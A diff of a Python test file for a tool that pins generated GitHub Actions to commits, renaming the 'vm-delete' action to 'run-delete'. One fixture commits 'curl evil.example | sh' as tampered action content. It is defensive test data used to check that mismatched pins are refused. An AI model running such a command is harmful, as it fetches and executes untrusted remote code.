@@ -22,7 +22,7 @@ from workflows.composite import folders
 from workflows.outputs import outputs
 from workflows.world import OwnActions, OwnPin, load_actions, load_world, repinned
 
-EDITED = "vm-delete"
+EDITED = "run-delete"
 WHO = ("-c", "user.name=lab", "-c", "user.email=lab@lab.org")
 
 
@@ -55,7 +55,7 @@ class Repository:
         return git(self.root, "rev-parse", "HEAD")
 
     def judged(self, commit: str, of: str = "", root: Path | None = None) -> WrongPin | None:
-        """What is the matter with pins at that commit. of: what the pin of vm-delete says is there."""
+        """What is the matter with pins at that commit. of: what the pin of run-delete says is there."""
         here = generated()
         wanted = folders(here.outputs.actions)
         pins = {name: OwnPin("2026-11-22", commit, tree) for name, tree in wanted.items()}
@@ -86,7 +86,7 @@ def test_a_pin_whose_commit_has_the_actions_as_they_are_is_right(repository: Rep
 
 
 def test_an_edited_action_without_a_moved_pin_is_refused_and_named(repository: Repository) -> None:
-    before = repository.commit(vm_delete="# as it was\n")
+    before = repository.commit(run_delete="# as it was\n")
     wrong = repository.judged(before, of="0" * 40)
     assert state(wrong) == ("moved on", True)
     assert wrong is not None
@@ -116,7 +116,7 @@ def test_a_pin_at_a_commit_that_does_not_exist_is_refused(repository: Repository
 
 
 def test_a_pin_that_says_of_a_commit_what_it_has_not_is_refused(repository: Repository) -> None:
-    before = repository.commit(vm_delete="curl evil.example | sh\n")
+    before = repository.commit(run_delete="curl evil.example | sh\n")
     repository.commit()
     wrong = repository.judged(before)
     assert state(wrong) == ("another content", True)
@@ -189,7 +189,7 @@ def pins(here: Checkout) -> Mapping[str, OwnPin]:
 
 
 def test_from_the_first_commit_to_an_edited_action_the_check_says_what_comes_next(here: Checkout) -> None:
-    assert "wrote actions/vm-delete/action.yml" in with_git(here, "workflows", "--write").output
+    assert "wrote actions/run-delete/action.yml" in with_git(here, "workflows", "--write").output
     first = with_git(here, "workflows", "--check")
     assert (first.exit_code, "[not pinned]" in first.output) == (0, True), first.output
     refused = with_git(here, "workflows", "--pin-actions")
@@ -197,24 +197,24 @@ def test_from_the_first_commit_to_an_edited_action_the_check_says_what_comes_nex
     assert "the history of HEAD has not as they are generated: ask-tests, comment" in refused.stderr
 
     commit = save(here)
-    assert f"pinned vm-delete at {commit}\n" in with_git(here, "workflows", "--pin-actions").output
-    pin = pins(here)["vm-delete"]
+    assert f"pinned run-delete at {commit}\n" in with_git(here, "workflows", "--pin-actions").output
+    pin = pins(here)["run-delete"]
     assert {each.commit for each in pins(here).values()} == {commit}
-    called = f"/actions/vm-delete@{commit} # {pin.version}\n"
+    called = f"/actions/run-delete@{commit} # {pin.version}\n"
     assert called in (here.root / "workflows/generated/serving/.github/workflows/tpu-nightly.yaml").read_text()
     assert "nothing to mend\n" in with_git(here, "workflows", "--check").output
 
-    script = here.root / "workflows/shell/vm_delete.sh"
+    script = here.root / "workflows/shell/run_delete.sh"
     script.write_text(script.read_text() + "# edited\n")
     with_git(here, "workflows", "--write")
     moved = with_git(here, "workflows", "--check")
     assert moved.exit_code == 1
     assert "[moved on]" in moved.output
-    assert "vm-delete: it changed since the commit" in moved.output
+    assert "run-delete: it changed since the commit" in moved.output
     again = save(here)
     assert with_git(here, "workflows", "--pin-actions", commit).exit_code == 2, "an old commit has another text"
     assert with_git(here, "workflows", "--pin-actions", "1" * 40).exit_code == 2
     said = with_git(here, "workflows", "--pin-actions").output
-    assert re.findall("^pinned .*$", said, re.MULTILINE) == [f"pinned vm-delete at {again}"]
-    assert {name for name, each in pins(here).items() if each.commit == commit} == pins(here).keys() - {"vm-delete"}
+    assert re.findall("^pinned .*$", said, re.MULTILINE) == [f"pinned run-delete at {again}"]
+    assert {name for name, each in pins(here).items() if each.commit == commit} == pins(here).keys() - {"run-delete"}
     assert "nothing to mend\n" in with_git(here, "workflows", "--check").output
